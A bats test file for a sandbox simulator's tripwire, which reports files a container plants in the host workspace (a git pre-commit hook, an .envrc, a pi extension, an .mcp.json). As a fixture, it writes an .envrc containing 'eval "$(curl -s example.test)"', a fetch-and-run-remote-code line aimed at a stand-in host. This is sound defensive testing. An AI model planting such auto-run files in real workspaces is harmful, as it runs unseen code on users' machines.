#!/usr/bin/env bats
# The tripwire in a session of the sbx simulator (tier 2): a container of
# the session writes files the host runs through the workspace mount; the
# call's end and the teardown name each one and who runs it, once, on
# standard error and in the session's record, and sbx-run -F keeps them
# for the user; the files stay as the container left them.

load ../helpers/sim-session

setup_file() {
	sim_setup_file
	sim_session_file
	export PATH="$TOP/sbx-watch:$PATH"
	mkdir -m 700 -p "$SBX_STATE_DIR"
	mkdir -p "$WS/.git/hooks"
	echo '# sample' >"$WS/.git/hooks/pre-commit.sample"
}

# The three files, byte for byte, with their modes.
files() {
	(cd "$WS" && sha256sum .pi/extensions/x.ts .git/hooks/pre-commit .envrc &&
	    stat -c '%n %a %s %Y' .pi/extensions/x.ts .git/hooks/pre-commit .envrc)
}

@test "sim tripwire: a container's .pi/extensions/x.ts, .git/hooks/pre-commit and .envrc are told by name at the call's end and the teardown, in the record, and left as they are" {
	local N=trip-a p
	run -0 sbx-run -s "$N" -x true
	[ "$(stat -c %a "$SBX_STATE_DIR/$N.tripwire")" = 600 ]
	run -0 --separate-stderr sbx-run -s "$N" run --rm -v "$WS:/workspace" \
	    busybox:local sh -c 'mkdir -p /workspace/.pi/extensions &&
	    echo "export default function () {}" >/workspace/.pi/extensions/x.ts &&
	    printf "#!/bin/sh\necho planted\n" >/workspace/.git/hooks/pre-commit &&
	    chmod 755 /workspace/.git/hooks/pre-commit &&
	    echo "eval \"\$(curl -s example.test)\"" >/workspace/.envrc'
	p="sbx-run: tripwire:"
	[[ "$stderr" == *"$p .pi/extensions/x.ts: created (a file): pi loads this at its next start here"* ]] || fail "$stderr"
	[[ "$stderr" == *"$p .git/hooks/pre-commit: created (a file): git runs this at the git command it is named for"* ]]
	[[ "$stderr" == *"$p .envrc: created (a file): direnv runs this on entering the directory"* ]]
	[[ "$stderr" == *"$p .pi/extensions: created (a directory)"* ]]
	local before
	before=$(files)
	# told once: a quiet call says nothing of them
	run -0 --separate-stderr sbx-run -s "$N" ps
	[[ "$stderr" != *tripwire* ]] || fail "$stderr"
	# in the record as the session goes
	run -0 jq -r 'select(.event == "tripwire") | "\(.path) \(.change)"' \
	    "$SBX_STATE_DIR/$N.journal"
	[[ "$output" == *".pi/extensions/x.ts created"* ]]
	[[ "$output" == *".git/hooks/pre-commit created"* ]]
	[[ "$output" == *".envrc created"* ]]
	# what the last call did not see, the teardown does, and only that
	echo '{"mcpServers":{}}' >"$WS/.mcp.json"
	run -0 --separate-stderr sbx-watch -n "$N"
	[[ "$stderr" == *"sbx-watch: tripwire: .mcp.json: created (a file): agents start the MCP servers it names here"* ]] || fail "$stderr"
	[[ "$stderr" != *x.ts* ]] || fail "told again: $stderr"
	[ ! -e "$SBX_STATE_DIR/$N.tripwire" ]
	# the record kept past the sandbox has the teardown's finding too
	run -0 jq -r 'select(.event == "tripwire") | .path' "$SBX_STATE_DIR/$N".past-*
	[[ "$output" == *.mcp.json* && "$output" == *.envrc* ]] || fail "$output"
	[ "$(files)" = "$before" ] || fail "a file changed"
	# kept for the user until seen: the next session's start reads them
	run -0 sbx-run -F
	[ "$(jq -r .path <<<"$output" | LC_ALL=C sort | tr '\n' ' ')" = \
	    ".envrc .git/hooks/pre-commit .mcp.json .pi/extensions .pi/extensions/x.ts " ]
	[ "$(jq -r .sandbox <<<"$output" | sort -u)" = "$N" ]
	run -0 sbx-run -F $(jq -r .id <<<"$output")
	run -0 sbx-run -F
	[ -z "$output" ]
	[ "$(files)" = "$before" ]
}
